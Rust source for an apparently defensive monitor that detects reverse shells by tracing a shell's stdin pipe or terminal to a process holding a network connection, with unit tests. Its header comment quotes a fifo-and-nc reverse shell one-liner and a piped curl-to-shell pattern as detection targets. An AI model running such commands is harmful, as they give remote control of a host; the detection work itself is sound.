//! Shells fed from the network through another process.
//!
//! A reverse shell need not hold the socket itself: `sh -i <fifo | nc host
//! port >fifo` gives the shell a fifo and a pipe whose other ends `nc`
//! holds, `curl ... | sh` feeds a shell through a pipe, and an interpreter
//! that keeps the socket can hand the shell a pseudo-terminal or a pair of
//! pipes (`pty.spawn`, `subprocess.Popen(stdin=PIPE)`). What they share: a
//! shell or interpreter whose input comes from a process with a network
//! connection. Each shell is watched for a while after its exec, because
//! the process at the other end may connect after the shell starts.

use std::{
    collections::{HashMap, VecDeque},
    time::{Duration, Instant},
};

use super::tracker::NetTracker;
use crate::{
    clock::BootClock,
    event::{
        stdio_link::{LinkedConnection, StdioLinkRecord},
        Event, FdKind,
    },
    process::{program, Process, ProcessTable},
};

/// How long a shell is watched for the other end of its input to connect.
const WATCH: Duration = Duration::from_secs(30);
/// Shells watched at once, at most; past it the oldest leave.
const WATCHED_MAX: usize = 1024;
/// Ancestors looked at for a holder of the shell's pipe or pty.
const ANCESTOR_LEVELS: usize = 3;

struct Watched {
    pid: u32,
    start_boot_ns: Option<u64>,
    since: Instant,
}

/// The shells being watched.
#[derive(Default)]
pub struct StdioLinks {
    watched: VecDeque<Watched>,
    /// Something that may complete a link happened since the last check.
    dirty: bool,
}

/// Whether a process is a shell or interpreter reading a pipe, a fifo or
/// a terminal.
fn watchable(p: &Process) -> bool {
    let fed = matches!(p.stdio[0], FdKind::Pipe | FdKind::Tty);
    fed && program::applet(p.exe.as_deref(), program::Argv::Typed(&p.argv))
        .and_then(program::family)
        .is_some()
}

/// One end of a link found.
struct Found {
    fds: Vec<u8>,
    via: &'static str,
    peer: u32,
}

impl StdioLinks {
    /// Notes what a batch's events change: new shells to watch, new
    /// connections and exits that may complete or end a watch.
    pub fn observe(&mut self, events: &[Event], procs: &ProcessTable, now: Instant) {
        for ev in events {
            match ev {
                Event::Exec(e) => {
                    if let Some(p) = procs.get(e.task.pid).filter(|p| watchable(p)) {
                        if self.watched.len() >= WATCHED_MAX {
                            self.watched.pop_front();
                        }
                        self.watched.push_back(Watched {
                            pid: p.pid,
                            start_boot_ns: p.start_boot_ns,
                            since: now,
                        });
                        self.dirty = true;
                    }
                }
                Event::Accept(_) | Event::ConnectResult(_) | Event::UdpFlow(_) => {
                    self.dirty = !self.watched.is_empty();
                }
                _ => {}
            }
        }
    }

    /// Looks for the networked process at the other end of each watched
    /// shell's input; reports each link found once.
    pub fn check(
        &mut self,
        procs: &ProcessTable,
        net: &NetTracker,
        clock: &BootClock,
        now: Instant,
        out: &mut Vec<Event>,
    ) {
        self.watched.retain(|w| {
            now.duration_since(w.since) < WATCH
                && procs
                    .get(w.pid)
                    .is_some_and(|p| p.start_boot_ns == w.start_boot_ns)
        });
        if !std::mem::take(&mut self.dirty) || self.watched.is_empty() {
            return;
        }
        let holders = holders(net);
        if holders.is_empty() {
            return;
        }
        let mut linked = Vec::new();
        for (i, w) in self.watched.iter().enumerate() {
            let Some(shell) = procs.get(w.pid) else {
                continue;
            };
            let Some(found) = link(shell, procs, &holders) else {
                continue;
            };
            linked.push(i);
            let flow = holders[&found.peer];
            let process = NetTracker::process_ref(procs, shell.pid, &shell.comm);
            let peer = procs
                .get(found.peer)
                .and_then(|p| NetTracker::process_ref(procs, p.pid, &p.comm));
            let (Some(process), Some(peer)) = (process, peer) else {
                continue;
            };
            out.push(Event::StdioLink(Box::new(StdioLinkRecord {
                ts: clock.rfc3339(BootClock::boot_now_ns()),
                process,
                fds: found.fds,
                via: found.via.to_owned(),
                peer,
                connection: LinkedConnection {
                    proto: flow.id.proto,
                    local: flow.local,
                    remote: flow.id.remote,
                    direction: flow.direction,
                },
            })));
        }
        for i in linked.into_iter().rev() {
            self.watched.remove(i);
        }
    }
}

/// The processes holding a network connection, or that held one in the
/// last seconds (`curl ... | sh` may be done before its shell is judged),
/// with one of their flows.
fn holders(net: &NetTracker) -> HashMap<u32, &super::table::Flow> {
    let mut out = HashMap::new();
    let closed = net.recently_closed.values().flatten().map(|(f, _)| f);
    for f in net.flows.iter().chain(closed).filter(|f| f.owner != 0) {
        out.entry(f.owner).or_insert(f);
    }
    out
}

/// The networked process feeding `shell`, if any: one whose stdout is the
/// shell's stdin (a pipe or fifo), or an ancestor that holds the write end
/// of the shell's input pipe or the master side of its terminal on any
/// descriptor. Login services (sshd holding a session's pty) are not
/// peers: that is how sessions work.
fn link(
    shell: &Process,
    procs: &ProcessTable,
    holders: &HashMap<u32, &super::table::Flow>,
) -> Option<Found> {
    let login = |pid: u32| {
        procs
            .get(pid)
            .and_then(|p| p.exe.as_deref())
            .is_some_and(program::is_login_service)
    };
    let pipes = shell.pipes;
    if pipes.stdin != 0 {
        for &h in holders.keys() {
            let Some(hp) = procs.get(h).filter(|hp| hp.pid != shell.pid) else {
                continue;
            };
            if hp.pipes.stdout == pipes.stdin && !login(h) {
                let mut fds = vec![0];
                if pipes.stdout != 0 && hp.pipes.stdin == pipes.stdout {
                    fds.push(1);
                }
                return Some(Found {
                    fds,
                    via: "pipe",
                    peer: h,
                });
            }
        }
    }
    // An ancestor holding the connection and, on another descriptor, the
    // shell's input pipe or its terminal.
    let mut up = shell.birth_ppid;
    for _ in 0..ANCESTOR_LEVELS {
        if up <= 1 {
            break;
        }
        if holders.contains_key(&up) && !login(up) {
            if let Some(found) = held_by(up, shell) {
                return Some(found);
            }
            // Gone before /proc could be read (a short session): a terminal
            // or an input pipe the holder did not have itself when it
            // started is one it made for the shell.
            if !proc_alive(up) {
                let holder = procs.get(up);
                let had_tty = holder.is_some_and(|a| a.stdio[0] == FdKind::Tty);
                if shell.stdio[0] == FdKind::Tty && !had_tty {
                    return Some(Found {
                        fds: vec![0, 1],
                        via: "pty",
                        peer: up,
                    });
                }
                let own = holder.map(|a| a.pipes).unwrap_or_default();
                if pipes.stdin != 0 && pipes.stdin != own.stdin && pipes.stdin != own.stdout {
                    return Some(Found {
                        fds: vec![0],
                        via: "pipe",
                        peer: up,
                    });
                }
            }
        }
        up = procs.get(up).map_or(0, |p| p.birth_ppid);
    }
    None
}

/// Whether process `pid` holds the write end of `shell`'s input pipe, or a
/// terminal master while the shell reads a terminal (from /proc).
fn held_by(pid: u32, shell: &Process) -> Option<Found> {
    let dir = std::fs::read_dir(format!("/proc/{pid}/fd")).ok()?;
    let input = format!("pipe:[{}]", shell.pipes.stdin);
    let output = format!("pipe:[{}]", shell.pipes.stdout);
    let (mut feeds, mut reads, mut pty) = (false, false, false);
    for entry in dir.flatten() {
        let Ok(target) = std::fs::read_link(entry.path()) else {
            continue;
        };
        let target = target.to_string_lossy();
        let name = entry.file_name();
        let access = || fd_access(pid, &name.to_string_lossy());
        if shell.pipes.stdin != 0 && target == input && access().is_some_and(|a| a != 0) {
            feeds = true;
        } else if shell.pipes.stdout != 0 && target == output && access() == Some(0) {
            reads = true;
        } else if shell.stdio[0] == FdKind::Tty
            && (target == "/dev/ptmx" || target == "/dev/pts/ptmx")
        {
            pty = true;
        }
    }
    if feeds {
        let mut fds = vec![0];
        if reads {
            fds.push(1);
        }
        return Some(Found {
            fds,
            via: "pipe",
            peer: pid,
        });
    }
    pty.then(|| Found {
        fds: vec![0, 1],
        via: "pty",
        peer: pid,
    })
}

fn proc_alive(pid: u32) -> bool {
    std::path::Path::new(&format!("/proc/{pid}")).exists()
}

/// The access mode of a descriptor (`O_ACCMODE` of its flags: 0 read, 1
/// write, 2 both), from /proc/PID/fdinfo.
fn fd_access(pid: u32, fd: &str) -> Option<u32> {
    let info = std::fs::read_to_string(format!("/proc/{pid}/fdinfo/{fd}")).ok()?;
    let flags = info.lines().find_map(|l| l.strip_prefix("flags:"))?.trim();
    u32::from_str_radix(flags, 8).ok().map(|f| f & 3)
}

#[cfg(test)]
mod tests {
    use std::sync::Arc;

    use super::*;
    use crate::process::Pipes;

    fn process(
        pid: u32,
        ppid: u32,
        exe: &str,
        argv: &[&str],
        stdin: FdKind,
        pipes: Pipes,
    ) -> Process {
        Process {
            pid,
            ppid,
            birth_ppid: ppid,
            start_boot_ns: Some(1),
            uid: 0,
            euid: 0,
            gid: 0,
            egid: 0,
            auid: None,
            comm: "x".into(),
            exe: Some(Arc::from(exe)),
            exe_deleted: false,
            argv: argv
                .iter()
                .map(|a| (*a).to_owned())
                .collect::<Vec<_>>()
                .into(),
            cwd: None,
            stdio: [stdin, FdKind::Pipe, FdKind::Pipe],
            pipes,
            seeded: false,
            namespaces: Default::default(),
            cgroup: None,
        }
    }

    #[test]
    fn shells_reading_pipes_or_terminals_are_watched() {
        let p = |exe: &str, argv: &[&str], stdin| process(5, 1, exe, argv, stdin, Pipes::default());
        assert!(watchable(&p("/usr/bin/dash", &["sh", "-i"], FdKind::Pipe)));
        assert!(watchable(&p(
            "/usr/bin/python3.11",
            &["python3"],
            FdKind::Tty
        )));
        assert!(watchable(&p("/bin/busybox", &["sh"], FdKind::Pipe)));
        assert!(!watchable(&p(
            "/usr/bin/grep",
            &["grep", "x"],
            FdKind::Pipe
        )));
        assert!(!watchable(&p("/usr/bin/dash", &["sh"], FdKind::Chardev)));
    }
}
